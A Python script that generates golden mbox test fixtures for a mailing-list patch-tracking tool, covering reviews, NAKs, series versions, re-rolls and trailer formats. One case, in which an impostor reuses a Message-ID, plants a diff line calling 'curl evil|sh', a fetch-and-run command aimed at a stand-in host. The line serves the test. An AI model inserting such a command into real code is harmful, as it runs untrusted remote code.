#!/usr/bin/env python3
"""Build the golden fixtures of the judging core: one ``NAME.mbox`` per case.

    python tests/data/judge/build.py            # write every NAME.mbox
    python tests/data/judge/build.py --expect   # also write NAME.outline from today's judge

Each case is a small list, written in the shapes real lists use (git
format-patch bodies, threaded replies, cover letters, re-rolls).  The
expected judgement sits beside it in ``NAME.outline`` (``judge.outline``),
whose header comment says what the case is and draws its thread.  An
``--expect`` run only proposes outlines: each was read and checked by hand
before it was committed, and ``tests/test_judge_golden.py`` holds the
judge (in memory, and through a real store) to them.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1]))  # tests/: mailgen
sys.path.insert(0, str(HERE.parents[2]))  # the project: patchdesk

from mailgen import make_mail, mbox  # noqa: E402

ADA = "Ada Lovelace <ada@example.org>"
ADA_NEW = "Ada Lovelace <ada@newjob.example.com>"
MARIA = "Maria Keller <maria@frob.org>"
BOB = "Bob Chen <bob@example.net>"
EVE = "Eve Mallory <eve@example.net>"
LIST = "frob-devel@lists.example.org"


class Thread:
    """Mails of one case, with their Message-IDs, in the order they were sent."""

    def __init__(self) -> None:
        self.mails: list[bytes] = []
        self.refs: dict[str, tuple[str, ...]] = {}
        self.minutes = 0

    def _date(self, day: float | None) -> str:
        if day is None:
            self.minutes += 7
            day = self.minutes / 1440
        total = int(day * 1440)
        d, rest = divmod(total, 1440)
        h, m = divmod(rest, 60)
        return f"{['Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat', 'Sun'][(d) % 7]}, {2 + d:02d} Nov 2026 " \
               f"{10 + h:02d}:{m:02d}:00 +0000" if d < 28 else f"Mon, 30 Nov 2026 {10 + h:02d}:{m:02d}:00 +0000"

    def mail(self, mid: str, subject: str, body: str, sender: str = ADA, parent: str | None = None,
             day: float | None = None, extra: str = "") -> str:
        refs = (*self.refs[parent], parent) if parent else ()
        self.refs[mid] = refs
        self.mails.append(make_mail(mid, subject, sender=sender, date=self._date(day), refs=refs, body=body,
                                    extra=extra))
        return mid

    def patch(self, mid: str, subject: str, *, path: str = "drivers/frob/core.c", old: str = "limit = 4;",
              new: str = "limit = 8;", line: int = 10, why: str = "Change it.", sender: str = ADA,
              parent: str | None = None, day: float | None = None, trailers: str = "", notes: str = "") -> str:
        author = sender
        body = (f"{why}\n\n{trailers}Signed-off-by: {author}\n---\n{notes}"
                f" {path} | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)\n\n"
                f"diff --git a/{path} b/{path}\nindex 1111111..2222222 100644\n--- a/{path}\n+++ b/{path}\n"
                f"@@ -{line},6 +{line},6 @@ static int frob_{line}(void)\n {{\n \tint x{line} = {line};\n"
                f" \tint y{line} = x{line} * 2;\n-\t{old}\n+\t{new}\n \treturn y{line};\n }}\n"
                "-- \n2.47.0\n")
        return self.mail(mid, subject, body, sender, parent, day)

    def cover(self, mid: str, subject: str, text: str = "This series does three things.", *,
              sender: str = ADA, parent: str | None = None, day: float | None = None) -> str:
        return self.mail(mid, subject, f"{text}\n\n{sender.split(' <')[0]} (2):\n  ...\n\n"
                                       " 2 files changed\n\n-- \n2.47.0\n", sender, parent, day)

    def reply(self, mid: str, parent: str, text: str, *, sender: str = MARIA, day: float | None = None,
              quote: str = "> Change it.") -> str:
        subject = "Re: " + _subject_of(self.mails, parent)
        return self.mail(mid, subject, f"On Mon, Ada Lovelace wrote:\n{quote}\n\n{text}\n", sender, parent, day)


def _subject_of(mails: list[bytes], mid: str) -> str:
    for raw in mails:
        head = raw.split(b"\n\n", 1)[0].decode()
        if f"Message-Id: <{mid}>" in head:
            subject = next(line[9:] for line in head.splitlines() if line.startswith("Subject: "))
            return subject[4:] if subject.startswith("Re: ") else subject
    raise KeyError(mid)


def _series(t: Thread, tag: str, version: str, n: int, *, sender: str = ADA, day: float = 0, cover: bool = True,
            parent: str | None = None, name: str = "frob: widget fixes", paths=None, news=None) -> list[str]:
    """A whole send: cover (0/n) and n patches in reply to it."""
    prefix = f"PATCH {version} " if version else "PATCH "
    head = t.cover(f"{tag}-0@x", f"[{prefix}0/{n}] {name}", sender=sender, parent=parent, day=day) if cover \
        else parent
    out = []
    for i in range(1, n + 1):
        path = (paths or {}).get(i, f"drivers/frob/part{i}.c")
        new = (news or {}).get(i, f"limit = {i * 8};")
        out.append(t.patch(f"{tag}-{i}@x", f"[{prefix}{i}/{n}] frob: widget: step {i}", path=path, new=new,
                           why=f"Step {i} of the widget fixes.", sender=sender, parent=head,
                           day=day + i / 1440))
    return ([head] if cover else []) + out


CASES: dict[str, tuple[str, Callable[[Thread], None]]] = {}


def case(text: str):
    def register(fn):
        CASES[fn.__name__] = (text, fn)
        return fn
    return register


@case("A lone patch nobody answered is new.")
def lone_patch(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")


@case("A Reviewed-by in a reply is collected; the patch is under review.")
def reviewed(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.reply("r1@x", "p1@x", "Looks right to me.\n\nReviewed-by: Maria Keller <maria@frob.org>")


@case("A trailer only quoted from an earlier mail is not given again.")
def quoted_trailer(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.reply("r1@x", "p1@x", "Why 8 and not 16?", sender=BOB,
            quote="> Change it.\n>\n> Reviewed-by: Someone Else <else@example.com>")


@case("A NAK from a reviewer: the patch is rejected.")
def nak(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.reply("r1@x", "p1@x", "NAK. The limit is in the ABI; raising it breaks old userspace.")


@case("A reviewer asks for a change: changes requested.")
def change_request(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.reply("r1@x", "p1@x", "Please use a define for 8 instead of a bare number, and resend.")


@case("The maintainer says it is applied: applied-claimed (no tree says so yet).")
def applied_claimed(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.reply("r1@x", "p1@x", "Applied to frob-next, thanks!")


@case("The author withdraws the patch.")
def withdrawn(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.reply("r1@x", "p1@x", "Please drop this patch, it is wrong; I will send something else.", sender=ADA)


@case("Tested-by and Acked-by from two people are both collected.")
def two_trailers(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.reply("r1@x", "p1@x", "Works on my board.\n\nTested-by: Bob Chen <bob@example.net>", sender=BOB)
    t.reply("r2@x", "p1@x", "Acked-by: Maria Keller <maria@frob.org>")


@case("A series with a cover letter: a Reviewed-by on the cover counts for every patch.")
def series_cover_review(t):
    head, *_ = _series(t, "s", "", 3)
    t.reply("r1@x", head, "For the whole series:\n\nReviewed-by: Maria Keller <maria@frob.org>",
            quote="> This series does three things.")


@case("A Reviewed-by on one patch of a series stays on that patch.")
def series_one_patch_review(t):
    _series(t, "s", "", 3)
    t.reply("r1@x", "s-2@x", "Reviewed-by: Maria Keller <maria@frob.org>", quote="> Step 2 of the widget fixes.")


@case("Two of three patches arrived: the series is incomplete (patch 3 missing).")
def incomplete(t):
    head = t.cover("s-0@x", "[PATCH 0/3] frob: widget fixes")
    t.patch("s-1@x", "[PATCH 1/3] frob: widget: step 1", path="drivers/frob/part1.c", parent=head)
    t.patch("s-2@x", "[PATCH 2/3] frob: widget: step 2", path="drivers/frob/part2.c", parent=head)


@case("Patches sent without a cover and not threaded, minutes apart, are one series.")
def unthreaded(t):
    for i in (1, 2, 3):
        t.patch(f"s-{i}@x", f"[PATCH {i}/3] frob: widget: step {i}", path=f"drivers/frob/part{i}.c",
                new=f"limit = {i * 8};", day=i / 1440)


@case("v1 then v2 of the same series: v1 is superseded, v2 new, linked as versions.")
def v1_v2(t):
    _series(t, "a", "", 2, day=0)
    _series(t, "b", "v2", 2, day=3, news={1: "limit = 9;"})


@case("Three versions in a row link as a chain.")
def v1_v2_v3(t):
    _series(t, "a", "", 2, day=0)
    _series(t, "b", "v2", 2, day=3, news={1: "limit = 9;"})
    _series(t, "c", "v3", 2, day=6, news={1: "limit = 10;"})


@case("A v2 sent in reply to the v1 cover is a new version, not a reply about v1.")
def v2_in_reply_to_v1(t):
    head, *_ = _series(t, "a", "", 2, day=0)
    _series(t, "b", "v2", 2, day=3, parent=head, news={1: "limit = 9;"})


@case("A v2 under a new title with the same changes links by content.")
def retitled(t):
    _series(t, "a", "", 2, day=0, name="frob: widget fixes")
    _series(t, "b", "v2", 2, day=2, name="frob: make the widget limits sane")


@case("Same person, new address (same full name): v2 still links to v1.")
def new_address(t):
    _series(t, "a", "", 2, day=0)
    _series(t, "b", "v2", 2, day=4, sender=ADA_NEW)


@case("Another person posts the same change: related work, not a new version.")
def related_other_person(t):
    t.patch("a1@x", "[PATCH] frob: raise the limit")
    t.patch("b1@x", "[PATCH] frob: core: raise the widget limit", sender=BOB, day=5)


@case("A RESEND of the same version: the resend is the current one.")
def resend(t):
    t.patch("a1@x", "[PATCH] frob: raise the limit", day=0)
    t.patch("b1@x", "[PATCH RESEND] frob: raise the limit", day=14)


@case("A partial re-roll: v2.1 of patch 2 in reply to v2 2/3 replaces only that patch.")
def partial_reroll(t):
    _series(t, "a", "v2", 3, day=0)
    t.patch("b2@x", "[PATCH v2.1 2/3] frob: widget: step 2", path="drivers/frob/part2.c", new="limit = 17;",
            why="Step 2 of the widget fixes.", parent="a-2@x", day=1)


@case("One patch split into two in v2: both pieces supersede it.")
def split(t):
    t.patch("a1@x", "[PATCH] frob: widget: rework limits", path="drivers/frob/core.c", day=0)
    head = t.cover("b-0@x", "[PATCH v2 0/2] frob: widget: rework limits", day=3)
    t.patch("b-1@x", "[PATCH v2 1/2] frob: widget: raise the limit", path="drivers/frob/core.c", parent=head,
            day=3.001)
    t.patch("b-2@x", "[PATCH v2 2/2] frob: widget: document the limit", path="Documentation/frob.rst",
            old="limit: 4", new="limit: 8", parent=head, day=3.002)


@case("A review of v1 is carried to the unchanged patch in v2.")
def carried_trailer(t):
    _series(t, "a", "", 2, day=0)
    t.reply("r1@x", "a-2@x", "Reviewed-by: Maria Keller <maria@frob.org>", quote="> Step 2 of the widget fixes.",
            day=1)
    _series(t, "b", "v2", 2, day=3, news={1: "limit = 9;"})


@case("Changes requested on v1; v2 changes that patch; v1 is superseded.")
def change_request_then_v2(t):
    _series(t, "a", "", 2, day=0)
    t.reply("r1@x", "a-1@x", "Please use a define here instead of a bare number.",
            quote="> Step 1 of the widget fixes.", day=1)
    _series(t, "b", "v2", 2, day=3, news={1: "limit = FROB_LIMIT;"})


@case("An RFC series is still judged like any other.")
def rfc(t):
    _series(t, "a", "RFC", 2)
    t.reply("r1@x", "a-0@x", "I like the idea; please send it for real.", quote="> This series does three things.")


@case("A pull request is a one-item series.")
def pull_request(t):
    t.mail("g1@x", "[GIT PULL] frob fixes for 6.20",
           "Hi Linus,\n\nThe following changes since commit 1111111111111111111111111111111111111111:\n\n"
           "  frob: start (2026-11-01)\n\nare available in the Git repository at:\n\n"
           "  git://git.example.org/frob.git tags/frob-fixes\n\nfor you to fetch changes up to "
           "2222222222222222222222222222222222222222:\n\n  frob: end (2026-11-02)\n\n----\nAda Lovelace (1):\n"
           "      frob: raise the limit\n\n drivers/frob/core.c | 2 +-\n")


@case("Only discussion, no patch: no series at all.")
def discussion_only(t):
    t.mail("d1@x", "frob: how should the widget limit work?", "I wonder whether 8 is enough.\n")
    t.reply("d2@x", "d1@x", "It is not; make it 16.", quote="> I wonder whether 8 is enough.")


@case("Two series by one person on the same day about different things stay apart.")
def two_topics_same_day(t):
    t.patch("a1@x", "[PATCH] frob: raise the limit", path="drivers/frob/core.c", day=0)
    t.patch("b1@x", "[PATCH] docs: frob: fix a typo", path="Documentation/frob.rst", old="teh", new="the",
            day=0.2)


@case("Eve reuses the Message-ID of Ada's patch with another diff: both are kept, Ada's series is Ada's.")
def reused_message_id(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.patch("p1@x", "[PATCH] frob: raise the limit", sender=EVE, new='system("curl evil|sh");', day=0.5)


@case("The seed's shape: v1 2/2 is NAKed and v2 comes without it: 2/2 stays rejected, not superseded.")
def nak_then_dropped(t):
    _series(t, "a", "", 2, day=0)
    t.reply("r1@x", "a-2@x", "I think I'll NAK this patch as is.", quote="> Step 2 of the widget fixes.", day=1)
    head = t.cover("b-0@x", "[PATCH v2 0/1] frob: widget fixes", day=3)
    t.patch("b-1@x", "[PATCH v2 1/1] frob: widget: step 1", path="drivers/frob/part1.c", new="limit = 8;",
            why="Step 1 of the widget fixes.", parent=head, day=3.001)


@case("v2 leaves out a patch nobody objected to: it was dropped in v2, dated when v2 came.")
def dropped_in_v2(t):
    _series(t, "a", "", 3, day=0)
    head = t.cover("b-0@x", "[PATCH v2 0/2] frob: widget fixes", day=3)
    for i in (1, 2):
        t.patch(f"b-{i}@x", f"[PATCH v2 {i}/2] frob: widget: step {i}", path=f"drivers/frob/part{i}.c",
                new=f"limit = {i * 8};", why=f"Step {i} of the widget fixes.", parent=head, day=3 + i / 1440)


@case("v2 keeps the length but its 2/2 is new work: old 2/2 (NAKed) may be reworked or dropped; superseded with the series.")
def reworked_past_recognition(t):
    _series(t, "a", "", 2, day=0)
    t.reply("r1@x", "a-2@x", "NAK, this hook is the wrong place.", quote="> Step 2 of the widget fixes.", day=1)
    head = t.cover("b-0@x", "[PATCH v2 0/2] frob: widget fixes", day=3)
    t.patch("b-1@x", "[PATCH v2 1/2] frob: widget: step 1", path="drivers/frob/part1.c", new="limit = 8;",
            why="Step 1 of the widget fixes.", parent=head, day=3.001)
    t.patch("b-2@x", "[PATCH v2 2/2] frob: core: move the limit into probe", path="drivers/frob/probe.c",
            old="probe(dev);", new="probe_limited(dev, 8);", why="Do it at probe time instead.", parent=head,
            day=3.002)


@case("A plain unified diff right after the message (no ---, no diff --git, an @@@ header, a blank context line "
      "that lost its space) is a patch, and the reply's trailer reaches it.")
def plain_unified_diff(t):
    t.mail("p1@x", "[PATCH] frob: raise the limit",
           "Raise the limit to 8.\n\nSigned-off-by: Ada Lovelace <ada@example.org>\n"
           "--- a/drivers/frob/core.c\n+++ b/drivers/frob/core.c\n"
           "@@@ -10,5 +10,5 @@ static int frob(void)\n {\n\n-\tlimit = 4;\n+\tlimit = 8;\n \treturn 0;\n }\n")
    t.reply("r1@x", "p1@x", "Reviewed-by: Maria Keller <maria@frob.org>", quote="> Raise the limit to 8.")


@case("A reply that negates a trailer gives none (\"not a Reviewed-by yet\").")
def negated(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.reply("r1@x", "p1@x", "This is not a Reviewed-by yet: I still have to test it on real hardware.")


@case("An applied-claim on the cover letter speaks for every patch of the series.")
def applied_on_cover(t):
    head, *_ = _series(t, "s", "", 2)
    t.reply("r1@x", head, "Series applied to frob-next, thanks!", quote="> This series does three things.")


@case("A reply to a reply still counts for the patch below it.")
def deep_reply(t):
    t.patch("p1@x", "[PATCH] frob: raise the limit")
    t.reply("r1@x", "p1@x", "Why 8?", sender=BOB)
    t.reply("r2@x", "r1@x", "Because the hardware has 8 slots.", sender=ADA, quote="> Why 8?")
    t.reply("r3@x", "r2@x", "Fair enough.\n\nReviewed-by: Bob Chen <bob@example.net>", sender=BOB,
            quote="> Because the hardware has 8 slots.")


@case("Trailers in the shapes reviewers write: a flowed reply that quotes the whole patch and wraps a long\n"
      "# trailer, then \"Cheers,\" and a signature; a \"From: / Sent:\" header above an inline quote; trailers the\n"
      "# author pasted as a paragraph of their own above the Signed-off-by.  A trailer only inside a top-posted\n"
      "# Outlook original is not given again.")
def trailer_shapes(t):
    head = t.cover("a-0@x", "[PATCH 0/3] frob: widget fixes")
    one = t.patch("a-1@x", "[PATCH 1/3] frob: widget: step 1", path="drivers/frob/part1.c", new="limit = 8;",
                  why="Step 1.", trailers="Reviewed-by: Bob Chen <bob@example.net>\n\n", parent=head)
    two = t.patch("a-2@x", "[PATCH 2/3] frob: widget: step 2", path="drivers/frob/part2.c", new="limit = 16;",
                  why="Step 2.", parent=head)
    three = t.patch("a-3@x", "[PATCH 3/3] frob: widget: step 3", path="drivers/frob/part3.c", new="limit = 24;",
                    why="Step 3.", parent=head)
    # format=flowed (RFC 3676): "> " + a blank context line ends in a space, as does every soft-broken line
    quoted = ("> Step 2.\n>\n> Signed-off-by: Ada Lovelace <ada@example.org>\n> ---\n"
              "> diff --git a/drivers/frob/part2.c b/drivers/frob/part2.c\n> --- a/drivers/frob/part2.c\n"
              "> +++ b/drivers/frob/part2.c\n> @@ -10,6 +10,6 @@ static int frob_10(void)\n>  {\n"
              ">  \tint x10 = 10;\n> -\tlimit = 4;\n> +\tlimit = 16;\n>  \treturn y10;\n>  \n")
    body = ("Il 02/11/26 10:07, Ada Lovelace ha scritto:\n" + quoted +
            "Reviewed-by: Maria Annunziata Keller-Von Hohenberg \n<maria.keller-vonhohenberg@frob.org>\n\n"
            "Cheers,\nMaria\n\n-- \nMaria Keller\nFrob Project\n")
    t.mails.append(make_mail("r2@x", "Re: [PATCH 2/3] frob: widget: step 2",
                             sender="Maria Keller <maria.keller-vonhohenberg@frob.org>",
                             date=t._date(None), refs=(head, two), body=body, charset="UTF-8; format=flowed"))
    t.mail("r3@x", "Re: [PATCH 3/3] frob: widget: step 3",
           "From: Ada Lovelace <ada@example.org>\nSent: Monday, November 2, 2026 10:21 AM\n"
           "> Step 3.\n>\n> Signed-off-by: Ada Lovelace <ada@example.org>\n\n"
           "Tested on the frob-9000 board.\n\nTested-by: Eve Mallory <eve@example.net>\n", sender=EVE,
           parent=three)
    t.mail("r4@x", "RE: [PATCH 1/3] frob: widget: step 1",
           "Thanks, I will try it next week.\n\n-----Original Message-----\nFrom: Ada Lovelace <ada@example.org>\n"
           "Sent: Monday, November 2, 2026 10:14 AM\nSubject: [PATCH 1/3] frob: widget: step 1\n\n"
           "Step 1.\n\nAcked-by: Eve Mallory <eve@example.net>\n", sender=EVE, parent=one)


def mails(name: str) -> bytes:
    t = Thread()
    CASES[name][1](t)
    return mbox(t.mails)


def drawing(raw: bytes) -> list[str]:
    """The thread, drawn: one line per mail, indented under its parent."""
    import mailbox
    import tempfile
    with tempfile.NamedTemporaryFile(suffix=".mbox") as fh:
        fh.write(raw)
        fh.flush()
        msgs = [(m["Message-Id"].strip("<>"), (m["In-Reply-To"] or "").strip("<>"), m["From"].split(" <")[0],
                 m["Subject"]) for m in mailbox.mbox(fh.name)]
    known = {mid for mid, *_ in msgs}
    children: dict[str, list] = {}
    for msg in msgs:
        children.setdefault(msg[1] if msg[1] in known else "", []).append(msg)
    out: list[str] = []

    def walk(parent: str, depth: int) -> None:
        for mid, _, who, subject in children.get(parent, []):
            out.append(f"{'  ' * depth}{'└─ ' if depth else ''}{subject}  <{mid}>  ({who})")
            if mid != parent:
                walk(mid, depth + 1)
    walk("", 0)
    return out


def main(argv: list[str]) -> None:
    expect = "--expect" in argv
    for name, (text, _) in CASES.items():
        raw = mails(name)
        (HERE / f"{name}.mbox").write_bytes(raw)
        if expect:
            from patchdesk.judge.memory import judge
            from patchdesk.judge.outline import of_judgement, render
            from patchdesk.sources.mbox import MboxSource
            outline = render(of_judgement(judge(MboxSource(HERE / f"{name}.mbox").messages({}))))
            head = [f"# {text}", "#"] + [f"#   {line}" for line in drawing(raw)] + ["#"]
            (HERE / f"{name}.outline").write_text("\n".join(head) + "\n" + outline)
    print(f"{len(CASES)} cases in {HERE}")


if __name__ == "__main__":
    main(sys.argv[1:])
